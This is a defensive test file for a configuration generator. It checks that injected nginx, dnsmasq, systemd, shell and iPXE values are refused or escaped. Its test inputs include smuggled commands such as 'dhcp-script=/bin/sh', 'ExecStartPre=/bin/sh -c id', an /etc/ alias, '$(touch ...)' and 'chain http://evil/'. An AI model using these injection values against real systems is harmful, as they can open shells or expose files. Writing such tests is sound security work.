// Hostile values, one output format at a time, read by the real program: the payload is either
// refused by `check` (positioned, never an internal error) or, when validation is bypassed with
// a forged model, refused by the escaper (RENDER_UNSAFE_VALUE) or written escaped, and then the
// real program reads it back as one inert value (test/hostile.test.ts covers every field).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { stringify } from 'yaml';
import { check, compileSite, type Artifact, type HarvesterNode, type SiteModel } from '../../src/index.ts';
import { NO_SOURCE } from '../../src/load/index.ts';
import { renderSite } from '../../src/render/index.ts';
import { requireProgram } from './helpers/programs.ts';
import { run, describe, type RunResult } from './helpers/proc.ts';
import { startNginx, nginxTest, nginxFailure, wrapVerbatim } from './helpers/nginx.ts';
import { freePort, httpGet } from './helpers/http.ts';
import { REPO_ROOT } from './helpers/initramfs.ts';
import { tempDir } from '../helpers/tmp.ts';
import { exampleSite } from '../helpers/example.ts';

type Mutable<T> = { -readonly [K in keyof T]: T[K] extends object ? Mutable<T[K]> : T[K] };

const SITE = path.join(REPO_ROOT, 'sites/location_x');
const base = exampleSite();

/** check() of location_x with `section.key = value`: the diagnostics at that key. */
async function checkWith(section: string, key: string, value: unknown): Promise<{ ok: boolean; at: string[]; all: string[] }> {
  const dir = tempDir('hostile-real');
  const doc = structuredClone(base);
  doc[section] = { ...(doc[section] ?? {}), [key]: value };
  await writeFile(path.join(dir, 'site.yaml'), stringify(doc));
  const r = await check({ sites: [dir] });
  const field = `${section}.${key}`;
  return {
    ok: r.ok,
    at: r.diagnostics.filter((d) => d.path?.startsWith(field) && d.line !== undefined && d.severity === 'error').map((d) => d.code),
    all: r.diagnostics.map((d) => `${d.code} ${d.path}: ${d.message}`),
  };
}

async function assertRefused(section: string, key: string, value: unknown): Promise<void> {
  const r = await checkWith(section, key, value);
  assert.not.ok(r.ok, `check accepted ${section}.${key} = ${JSON.stringify(value)}`);
  assert.ok(r.at.length > 0, `no positioned error at ${section}.${key}: ${r.all.join('\n')}`);
  assert.not.ok(
    r.all.some((d) => d.startsWith('INTERNAL_ERROR')),
    r.all.join('\n'),
  );
}

async function forged(edit: (m: Mutable<SiteModel>) => void): Promise<{ artifacts: readonly Artifact[]; codes: string[] }> {
  const m = structuredClone((await compileSite(SITE)).model!) as Mutable<SiteModel>;
  edit(m);
  const r = renderSite(m as SiteModel, NO_SOURCE);
  return { artifacts: r.artifacts, codes: r.diagnostics.map((d) => d.code) };
}

function file(artifacts: readonly Artifact[], p: string): string {
  const a = artifacts.find((x) => x.path === p);
  assert.ok(a, `no ${p} rendered`);
  return a.contents as string;
}

// --- nginx ---------------------------------------------------------------------------------

test('nginx: a directive injected through nginx.root is refused by check; a forged one lands quoted, nginx -t accepts it and serves nothing extra', async () => {
  await assertRefused('nginx', 'root', '/srv/x;\n    location /leak/ { alias /etc/; }');
  await assertRefused('nginx', 'root', '/srv/x; location /leak/ { alias /etc/; }');
  if (!requireProgram('nginx')) return;
  const prefix = tempDir('hostile-nginx');
  // A real directory whose name holds nginx syntax: only correct quoting serves files from it.
  const root = path.join(prefix, 'x; location /leak/ { alias /etc/; } #');
  const port = await freePort();
  const { artifacts, codes } = await forged((m) => {
    m.nginx.root = root;
    m.nginx.listen = `127.0.0.1:${port}`;
    m.nginx.accessLog = path.join(prefix, 'access.log');
  });
  assert.equal(codes, []);
  const snippet = file(artifacts, 'nginx/harvgen.conf');
  assert.ok(snippet.includes(`    root "${root}";\n`), snippet);
  for (const a of artifacts) {
    await mkdir(path.dirname(path.join(root, a.path)), { recursive: true });
    await writeFile(path.join(root, a.path), a.contents);
  }
  const setup = await wrapVerbatim(prefix, snippet);
  const t = await nginxTest(setup);
  assert.ok(t.code === 0, `nginx -t rejected the quoted root:\n${await nginxFailure(setup, t)}`);
  const d = await startNginx(setup, { host: '127.0.0.1', port });
  try {
    const get = (p: string) => httpGet({ host: '127.0.0.1', port, path: p });
    const boot = await get('/boot.ipxe');
    assert.is(boot.status, 200, 'the tree is served from the oddly named root');
    assert.is(boot.body.toString(), file(artifacts, 'boot.ipxe'));
    for (const p of ['/leak/passwd', '/leak/', '/etc/passwd', '/x;']) assert.is((await get(p)).status, 404, `${p} must be 404`);
  } finally {
    await d.stop();
  }
});

test('nginx: a forged `$` (an nginx variable) is refused, never written', async () => {
  const { codes } = await forged((m) => void (m.nginx.root = '/srv/$http_x_root'));
  assert.ok(codes.includes('RENDER_UNSAFE_VALUE'), codes.join(', '));
});

// --- dnsmasq -------------------------------------------------------------------------------

test('dnsmasq: a dhcp-script injected through interface, domain or tftp_root is refused by check and by the escaper; an edge-valid config passes dnsmasq --test', async () => {
  await assertRefused('dnsmasq', 'interface', 'eth0\ndhcp-script=/bin/sh');
  await assertRefused('dnsmasq', 'interface', 'eth0,lo');
  await assertRefused('network', 'domain', 'lab\ndhcp-script=/bin/sh');
  await assertRefused('dnsmasq', 'tftp_root', '/srv/tftp,lo');
  await assertRefused('dnsmasq', 'hosts_dir', '/etc/h\ndhcp-script=/bin/sh');
  await assertRefused('dnsmasq', 'host', 'boot1,lo');
  for (const edit of [
    (m: Mutable<SiteModel>) => void (m.dnsmasq.interface = 'eth0\ndhcp-script=/bin/sh'),
    (m: Mutable<SiteModel>) => void (m.network.domain = 'lab #x'),
    (m: Mutable<SiteModel>) => void (m.dnsmasq.tftpRoot = '/srv/tftp,lo'),
  ]) {
    const { codes } = await forged(edit);
    assert.ok(codes.includes('RENDER_UNSAFE_VALUE'), codes.join(', '));
  }
  if (!requireProgram('dnsmasq')) return;
  const { artifacts, codes } = await forged((m) => {
    m.dnsmasq.interface = 'br0.100';
    m.network.domain = 'a-1.b2.example.internal';
    m.dnsmasq.tftpRoot = '/srv/tftp~x@y+z=1:2';
    m.dnsmasq.hostsDir = '/etc/h~x@y+z=1:2';
  });
  assert.equal(codes, []);
  const dir = tempDir('hostile-dnsmasq');
  const conf = path.join(dir, 'dnsmasq.conf');
  // What the DHCP host reads: global.conf, then the site's file.
  const text = file(artifacts, 'dnsmasq/global.conf') + file(artifacts, 'dnsmasq/harvgen.conf');
  assert.match(text, /^tftp-root=\/srv\/tftp~x@y\+z=1:2$/m);
  assert.match(text, /^dhcp-hostsdir=\/etc\/h~x@y\+z=1:2$/m);
  await writeFile(conf, text);
  const r = await run(['dnsmasq', '--test', `--conf-file=${conf}`], { timeoutMs: 10_000 });
  assert.ok(r.code === 0 && /syntax check OK/.test(r.stderr + r.stdout), describe(r));
  assert.not.ok(/dhcp-script/.test(text));
});

// --- libvirt XML ---------------------------------------------------------------------------

test('libvirt: markup and `--` in forged names and paths are escaped; virt-xml-validate and libvirt read back the literal values', async () => {
  if (!requireProgram('virt-xml-validate', 'xmllint', 'virsh')) return;
  const disk = `/var/lib/a&b'"<x>--y`;
  const { artifacts, codes } = await forged((m) => {
    m.lab.networkName = `lab--net-`;
    m.lab.diskDir = disk;
  });
  assert.equal(codes, []);
  const dir = tempDir('hostile-xml');
  const net = path.join(dir, 'network.xml');
  const dom = path.join(dir, 'hv-1.xml');
  await writeFile(net, file(artifacts, 'libvirt/network.xml'));
  await writeFile(dom, file(artifacts, 'libvirt/hv-1.xml'));
  for (const [f, kind] of [
    [net, 'network'],
    [dom, 'domain'],
  ] as const) {
    const r = await run(['virt-xml-validate', f, kind], { timeoutMs: 20_000 });
    assert.ok(r.code === 0, describe(r));
  }
  const r = await run(
    ['virsh', '-q', '-c', 'test:///default', `net-define ${net} ; define ${dom} ; net-list --all --name ; domblklist location-x-hv-1`],
    {
      timeoutMs: 20_000,
    },
  );
  assert.ok(r.code === 0, describe(r));
  assert.ok(r.stdout.includes('lab--net-'), `network name read back: ${r.stdout}`);
  assert.ok(r.stdout.includes(`${disk}/location-x-hv-1.qcow2`), `disk path read back literally: ${r.stdout}`);
});

// --- systemd -------------------------------------------------------------------------------

test('systemd: an ExecStartPre= injected through forward.listen_address is refused by check and by the escaper; edge-valid units verify cleanly', async () => {
  await assertRefused('forward', 'listen_address', '0.0.0.0\nExecStartPre=/bin/sh -c id');
  await assertRefused('forward', 'listen_address', '0.0.0.0,fork');
  const refused = await forged((m) => void (m.forward.listenAddress = '0.0.0.0,fork\nExecStartPre=/bin/sh -c id'));
  assert.ok(refused.codes.includes('RENDER_UNSAFE_VALUE'), refused.codes.join(', '));
  if (!requireProgram('systemd-analyze', 'socat')) return;
  const { artifacts, codes } = await forged((m) => {
    m.forward.listenAddress = '0.0.0.0';
    m.forward.ports = [1, 65535];
  });
  assert.equal(codes, []);
  const dir = tempDir('hostile-systemd');
  const units = artifacts.filter((a) => a.path.startsWith('systemd/'));
  assert.is(units.length, 2);
  for (const u of units) await writeFile(path.join(dir, path.basename(u.path)), u.contents);
  const r = await run(['systemd-analyze', 'verify', '--man=no', ...units.map((u) => `./${path.basename(u.path)}`)], {
    cwd: dir,
    timeoutMs: 30_000,
    env: { ...process.env, SYSTEMD_LOG_COLOR: '0', SYSTEMD_PAGER: '' },
  });
  assert.ok(r.code === 0 && r.stderr.trim() === '' && r.stdout.trim() === '', describe(r));
});

// --- sh ------------------------------------------------------------------------------------

test('sh: quotes and $(...) in a forged disk dir stay one literal word when define.sh really runs (virsh and qemu-img stubbed)', async () => {
  if (!requireProgram('sh')) return;
  const dir = tempDir('hostile-sh');
  const marker = path.join(dir, 'PWNED');
  const diskDir = path.join(dir, `d'$(touch ${marker})'";x`);
  const { artifacts, codes } = await forged((m) => void (m.lab.diskDir = diskDir));
  assert.equal(codes, []);
  const script = path.join(dir, 'define.sh');
  await writeFile(script, file(artifacts, 'libvirt/define.sh'), { mode: 0o755 });
  const n = await run(['sh', '-n', script], { timeoutMs: 10_000 });
  assert.ok(n.code === 0, describe(n));
  // Stubs log their argv, one argument per line, so the test sees exactly what the shell passed.
  const bin = path.join(dir, 'bin');
  const log = path.join(dir, 'calls.log');
  await mkdir(bin);
  for (const stub of ['virsh', 'qemu-img']) {
    const p = path.join(bin, stub);
    await writeFile(p, `#!/bin/sh\necho "== ${stub}" >> '${log}'\nfor a in "$@"; do echo "$a" >> '${log}'; done\necho 'Active: yes'\n`);
    await chmod(p, 0o755);
  }
  const r: RunResult = await run(['sh', script], { timeoutMs: 10_000, env: { ...process.env, PATH: `${bin}:${process.env.PATH}` } });
  assert.ok(r.code === 0, describe(r));
  assert.not.ok(existsSync(marker), 'the $(...) in the path ran');
  assert.ok(existsSync(diskDir), 'mkdir -p created the literal directory');
  const calls = await readFile(log, 'utf8');
  assert.ok(calls.includes(`\n${diskDir}/location-x-hv-1.qcow2\n`), calls);
});

// --- iPXE ----------------------------------------------------------------------------------

test('ipxe: commands injected through kernel args, a NIC name or the server URL are refused by check and by the escaper', async () => {
  await assertRefused('boot', 'kernel_args', ['quiet || shell']);
  await assertRefused('boot', 'kernel_args', ['x', '||', 'chain', 'http://evil/']);
  await assertRefused('boot', 'kernel_args', ['x${net0/ip}']);
  await assertRefused('boot', 'server', 'http://10.0.0.1 ; shell');
  await assertRefused('defaults', 'interfaces', [{ name: 'ens3 || shell' }]);
  for (const edit of [
    (m: Mutable<SiteModel>) => void (m.boot.kernelArgs = ['quiet', '||', 'shell']),
    (m: Mutable<SiteModel>) => void (m.boot.kernelArgs = ['#', 'x']),
    (m: Mutable<SiteModel>) => {
      // A static node puts its NIC name on the kernel line (ip=...:<nic>:none).
      const n = m.nodes[0] as Mutable<HarvesterNode>;
      n.method = 'static';
      n.interfaces = [{ name: 'x ; shell' }];
    },
  ]) {
    const { codes } = await forged(edit);
    assert.ok(codes.includes('RENDER_UNSAFE_VALUE'), codes.join(', '));
  }
  // iPXE has no offline checker; the QEMU boots in boot.test.ts run real iPXE on generated scripts.
});

test.run();
